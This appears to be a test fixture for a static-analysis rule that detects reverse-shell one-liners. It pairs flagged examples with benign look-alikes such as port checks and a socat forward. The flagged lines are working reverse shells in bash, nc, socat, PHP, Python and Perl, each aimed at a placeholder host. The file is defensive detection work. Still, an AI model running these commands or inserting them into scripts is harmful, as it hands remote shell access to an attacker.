#!/bin/bash
# ruleid: generic-reverse-shell-one-liner
bash -i >& /dev/tcp/10.0.0.1/4242 0>&1
# ruleid: generic-reverse-shell-one-liner
nc -e /bin/sh 10.0.0.1 4242
# ruleid: generic-reverse-shell-one-liner
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f
# ruleid: generic-reverse-shell-one-liner
socat tcp-connect:10.0.0.1:4242 exec:/bin/bash,pty,stderr,setsid
# ruleid: generic-reverse-shell-one-liner
php -r '$s=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");'
# ruleid: generic-reverse-shell-one-liner
exec 5<>/dev/tcp/10.0.0.1/4242; cat <&5 | while read l; do $l 2>&5 >&5; done
# ok: generic-reverse-shell-one-liner
timeout 1 bash -c "</dev/tcp/localhost/5432" && echo "postgres is up"
# ok: generic-reverse-shell-one-liner
nc -z -w 2 localhost 6379
# ok: generic-reverse-shell-one-liner
bash -i -c 'source ~/.bashrc && nvm use 20'
# ok: generic-reverse-shell-one-liner
socat TCP-LISTEN:8080,fork TCP:backend:80
# ruleid: generic-reverse-shell-one-liner
python3 -c 'import socket,subprocess;s=socket.create_connection(("10.0.0.1",4242));subprocess.call(["/bin/sh","-i"],stdin=s,stdout=s,stderr=s)'
# ruleid: generic-reverse-shell-one-liner
php -r '$sock=fsockopen("10.0.0.1",4242);$proc=proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'
# ok: generic-reverse-shell-one-liner
python3 -c 'import subprocess; subprocess.call(["/bin/sh", "-c", "make"])'
# ruleid: generic-reverse-shell-one-liner
perl -e 'use Socket; socket(my $s,PF_INET,SOCK_STREAM,6); connect($s,sockaddr_in(8081,inet_aton("192.0.2.1"))); open(STDIN, ">&", $s); open(STDOUT, ">&", $s); exec("/bin/sh -i");'
